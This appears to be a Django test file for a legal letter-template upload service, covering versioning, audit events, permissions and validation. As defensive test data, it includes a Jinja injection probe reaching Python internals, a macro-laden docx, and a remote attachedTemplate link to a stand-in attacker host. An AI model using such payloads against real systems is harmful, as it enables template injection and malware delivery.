"""Uploading and activating templates: validated, versioned, audited, per entity."""

from __future__ import annotations

import pytest
from django.core.exceptions import PermissionDenied, ValidationError

from cases.models import AuditEvent, Role
from templates_legal.defaults import default_path
from templates_legal.models import LetterTemplate
from templates_legal.templates_admin.selectors import active_template
from templates_legal.templates_admin.services import (
    MAX_TEMPLATE_BYTES,
    template_activate,
    template_restore_default,
    template_upload,
)
from tests.people import staff
from tests.templates_legal.helpers import docx_with, rezip

ACK = "acknowledgement"
GOOD = docx_with("Accusé de réception", "N/Réf. : {{ case_reference }}", "{{ entity_name }}")
GOOD_V2 = docx_with("Version 2 — {{ case_reference }}", "le {{ letter_date }}")


def _upload(actor, entity, data: bytes, kind: str = ACK, language: str = "fr"):
    return template_upload(actor=actor, entity=entity, kind=kind, language=language, data=data)


def _refused(actor, entity, data: bytes, match: str, kind: str = ACK) -> None:
    with pytest.raises(ValidationError, match=match):
        _upload(actor, entity, data, kind=kind)
    assert not LetterTemplate.objects.exists()
    assert not AuditEvent.objects.filter(action__startswith="letter_template.").exists()


@pytest.mark.django_db
def test_an_entity_without_upload_uses_the_shipped_default(school_a):
    template = active_template(school_a, ACK, "fr")
    assert template is not None and template.is_default and template.version == 0
    assert bytes(template.content) == default_path(ACK, "fr").read_bytes()
    assert active_template(school_a, "article40_referral", "en") is None


@pytest.mark.django_db
def test_upload_creates_version_2_and_activates_it_then_activate_restores_version_1(
    legal_a, school_a
):
    first = _upload(legal_a, school_a, GOOD)
    assert (first.version, first.is_active) == (1, True)
    second = _upload(legal_a, school_a, GOOD_V2)
    first.refresh_from_db()
    assert (second.version, second.is_active, first.is_active) == (2, True, False)
    assert active_template(school_a, ACK, "fr") == second

    template_activate(actor=legal_a, template=first)
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.is_active and not second.is_active
    assert bytes(active_template(school_a, ACK, "fr").content) == GOOD

    uploaded = AuditEvent.objects.filter(action="letter_template.uploaded").order_by("sequence")
    assert [e.details["version"] for e in uploaded] == [1, 2]
    assert uploaded[0].details["placeholders"] == ["case_reference", "entity_name"]
    assert uploaded[0].entity_id == school_a.pk and uploaded[0].actor_id == legal_a.pk
    activated = AuditEvent.objects.get(action="letter_template.activated")
    assert activated.details["version"] == 1 and activated.details["previous_version"] == 2


@pytest.mark.django_db
def test_versions_count_per_entity_kind_and_language(legal_a, admin_a, school_a):
    _upload(legal_a, school_a, GOOD)
    assert _upload(admin_a, school_a, GOOD, language="en").version == 1
    summons = docx_with("{{ case_reference }} {{ interview_date }}")
    assert _upload(legal_a, school_a, summons, kind="interview_summons").version == 1
    assert _upload(admin_a, school_a, GOOD).version == 2
    assert LetterTemplate.objects.filter(is_active=True).count() == 3


@pytest.mark.django_db
def test_returning_to_the_shipped_default_keeps_the_uploads(legal_a, school_a):
    _upload(legal_a, school_a, GOOD)
    template_restore_default(actor=legal_a, entity=school_a, kind=ACK, language="fr")
    assert active_template(school_a, ACK, "fr").is_default
    assert LetterTemplate.objects.count() == 1
    assert AuditEvent.objects.filter(action="letter_template.default_restored").exists()
    with pytest.raises(ValidationError):
        template_restore_default(
            actor=legal_a, entity=school_a, kind="article40_referral", language="en"
        )


@pytest.mark.django_db
def test_an_undocumented_placeholder_is_refused_with_a_clear_error_and_nothing_stored(
    legal_a, school_a
):
    leaky = docx_with("{{ case_reference }}", "Signalé par {{ reporting_person_identity }}")
    _refused(legal_a, school_a, leaky, "champs non prévus.*reporting_person_identity")


@pytest.mark.django_db
def test_the_charge_letter_cannot_name_the_reporting_person(legal_a, school_a):
    leaky = docx_with("{{ charges_summary }} — signalé par {{ reporting_person_identity }}")
    _refused(legal_a, school_a, leaky, "reporting_person_identity", kind="disciplinary_summons")


@pytest.mark.django_db
def test_a_jinja_syntax_error_is_refused(legal_a, school_a):
    _refused(legal_a, school_a, docx_with("{{ case_reference }", "{% if %}"), "syntaxe")


@pytest.mark.django_db
def test_a_template_reaching_for_python_internals_is_refused(legal_a, school_a):
    _refused(
        legal_a,
        school_a,
        docx_with("{{ case_reference.__class__.__mro__ }}"),
        "ne peut pas être rempli",
    )


@pytest.mark.django_db
def test_a_macro_enabled_file_is_refused(legal_a, school_a):
    with_vba = rezip(GOOD, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    _refused(legal_a, school_a, with_vba, "macros")


@pytest.mark.django_db
def test_a_docm_content_type_is_refused(legal_a, school_a):
    docm = rezip(
        GOOD,
        replace={
            "[Content_Types].xml": lambda xml: xml.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    _refused(legal_a, school_a, docm, "macros")


@pytest.mark.django_db
def test_a_non_docx_file_is_refused(legal_a, school_a):
    _refused(legal_a, school_a, b"%PDF-1.7 not a word document", r"n'est pas un document Word")
    _refused(legal_a, school_a, b"", "vide")
    not_word = rezip(
        GOOD, replace={"[Content_Types].xml": lambda xml: xml.replace(b"word", b"w0rd")}
    )
    _refused(legal_a, school_a, not_word, r"n'est pas un document Word")


@pytest.mark.django_db
def test_a_file_over_5_mb_is_refused(legal_a, school_a):
    _refused(legal_a, school_a, GOOD + b"\0" * MAX_TEMPLATE_BYTES, "5 Mo")


@pytest.mark.django_db
def test_a_template_fetching_remote_content_is_refused(legal_a, school_a):
    remote = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    attached = rezip(
        GOOD,
        replace={
            "word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", remote)
        },
    )
    _refused(legal_a, school_a, attached, "contenu extérieur")


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.REFERENT, Role.DIRECTOR, Role.INVESTIGATOR, Role.STEERING])
def test_only_legal_and_entity_admins_may_upload_or_activate(role, legal_a, school_a):
    template = _upload(legal_a, school_a, GOOD)
    person = staff(role, school_a)
    with pytest.raises(PermissionDenied):
        _upload(person, school_a, GOOD_V2)
    with pytest.raises(PermissionDenied):
        template_activate(actor=person, template=template)
    with pytest.raises(PermissionDenied):
        template_restore_default(actor=person, entity=school_a, kind=ACK, language="fr")
    assert LetterTemplate.objects.count() == 1


@pytest.mark.django_db
def test_the_legal_directorate_of_another_entity_may_not_touch_these_templates(
    legal_a, legal_b, admin_b, school_a
):
    template = _upload(legal_a, school_a, GOOD)
    for outsider in (legal_b, admin_b):
        with pytest.raises(PermissionDenied):
            _upload(outsider, school_a, GOOD_V2)
        with pytest.raises(PermissionDenied):
            template_activate(actor=outsider, template=template)
    assert LetterTemplate.objects.count() == 1


@pytest.mark.django_db
def test_unknown_kinds_and_languages_are_refused(legal_a, school_a):
    with pytest.raises(ValidationError):
        _upload(legal_a, school_a, GOOD, kind="love_letter")
    with pytest.raises(ValidationError):
        _upload(legal_a, school_a, GOOD, language="de")
